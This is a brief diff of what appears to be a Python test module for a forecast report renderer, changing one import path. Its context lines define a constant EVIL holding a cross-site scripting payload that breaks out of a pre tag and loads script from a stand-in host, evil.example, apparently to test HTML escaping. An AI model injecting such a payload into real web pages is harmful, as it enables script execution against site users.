@@ -14,7 +14,7 @@ from pages import Page, specs
 from forecast.evaluate import Verdict, from_table, report
 from forecast.evaluate.report.page import CHART, PARALLEL, START, render
 from forecast.evaluate.report.parts import Table
-from forecast.runs import Run
+from forecast.finished_runs import Run
 
 EVIL = "</pre><script src='https://evil.example/x.js'>alert(1)</script>\"&'"
 
